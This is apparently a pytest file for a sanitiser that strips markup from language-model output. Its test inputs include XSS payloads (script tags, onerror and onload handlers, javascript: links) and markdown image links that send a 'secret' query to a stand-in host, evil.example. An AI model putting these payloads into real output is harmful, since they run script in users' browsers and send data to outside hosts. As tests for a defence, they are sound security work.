"""Model output can do nothing but be read, in a page and in a program that renders it alone."""

from __future__ import annotations

import time

import pytest
from markdown_it import MarkdownIt

from engine.lessons.llm.clean import plain_line, plain_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/",
    "[click](javascript:alert(1))",
    "[click]( http://evil.example 'title')",
    "<https://evil.example/>",
    "<svg/onload=alert(1)>",
    "a <b onmouseover=x>b</b> c",
    "&lt;script&gt; <!-- --> <?php ?>",
    "`code` <i>text</i> `more`",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_markup_is_left_for_a_careless_renderer(text: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).render(plain_markdown(text))
    for tag in ("<script", "<img", "<a ", "<svg", "<b ", "<i>", "<!--", "<?"):
        assert tag not in html


def test_words_of_links_and_images_stay() -> None:
    assert plain_markdown("See [the map](http://x.example) and ![a delta](y.png).") == (
        "See the map and a delta."
    )


def test_code_is_left_alone() -> None:
    text = "Write `<b>` for bold:\n\n```html\n<b>[x](y)</b>\n```\n\nDone [^1]."
    assert plain_markdown(text) == text


def test_markers_tables_and_comparisons_stay() -> None:
    text = "If a < b then c [^1][^2].\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert plain_markdown(text) == text


def test_directions_and_control_characters_go() -> None:
    assert plain_markdown("ab\u202ecd\x00e") == "abcde"
    assert plain_line(" A\u202e title\nof <b>two</b> lines ") == "A title of <b>two</b> lines"


@pytest.mark.parametrize("piece", ["[", "![", "<![CDATA[", "[a [b]", "`["])
def test_open_brackets_without_end_take_no_time(piece: str) -> None:
    start = time.process_time()
    plain_markdown((piece * 20_000)[:20_000])
    plain_line((piece * 20_000)[:20_000])
    assert time.process_time() - start < 1


def test_a_link_after_an_open_bracket_is_a_link_still() -> None:
    assert plain_markdown("see [one [two](https://x.y) and ![three [four](data:x)") == (
        "see [one two and ![three four"
    )
